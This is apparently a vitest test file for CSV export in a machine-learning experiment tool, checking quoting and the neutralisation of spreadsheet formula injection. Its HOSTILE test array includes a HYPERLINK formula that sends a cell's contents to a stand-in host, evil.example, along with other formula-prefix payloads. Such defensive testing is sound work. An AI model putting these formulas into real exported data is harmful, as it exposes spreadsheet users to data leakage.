// CSV cells: RFC 4180 quoting and OWASP's formula-injection neutralisation, in every CSV the lab
// writes (tableCsv, sweepCsv, and the CLI's metrics.csv through them).
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvText } from '../src/lib/core/export/csv';
import { sweepCsv } from '../src/lib/core/experiment/aggregate';
import { metricsTable, tableCsv } from '../src/lib/core/export/metricsTable';
import { newRunRecord } from '../src/lib/core/run/record';
import { goldenV2 } from '../src/lib/core/data/golden';
import { smokeConfig } from './helpers';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', '+1+2', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];

describe('CSV cells', () => {
	it('neutralise text that a spreadsheet would run as a formula, with a leading quote', () => {
		for (const s of HOSTILE) expect(parse(csvText([[s]]))[0][0]).toBe(`'${s}`);
	});

	it('leave numbers (negative ones too) and ordinary text as they are', () => {
		expect(csvField(-0.5)).toBe('-0.5');
		expect(csvField(-1.281e-9)).toBe('-1.281e-9');
		expect(csvField('golden-v2 run')).toBe('golden-v2 run');
		expect(csvField('a, "b"')).toBe('"a, ""b"""');
		expect(csvField(null)).toBe('');
	});

	it('reach every name in a run metrics table and a sweep summary', () => {
		const config = smokeConfig({ run: { name: HOSTILE[0] } });
		const ds = goldenV2();
		const run = { ...newRunRecord(config, ds.manifest, []), name: HOSTILE[0] };
		const training = [{ step: 1, loss: 3, lr: 1e-3, grad_norm: 1, tokens_per_s: 100, elapsed_s: 1 }];
		const rows: Record<string, string>[] = parse(tableCsv(metricsTable([{ run, training, evaluation: [] }])), {
			columns: true
		});
		expect(rows[0].run_name).toBe(`'${HOSTILE[0]}`);
		const summary = parse(
			sweepCsv([{ arm: '@arm', runs: ['r1'], scores: { '=score': { mean: -1, ci95: null, n: 1 } } }]),
			{ columns: true }
		);
		expect(summary[0]).toMatchObject({ arm: "'@arm", score: "'=score", mean: '-1' });
	});
});
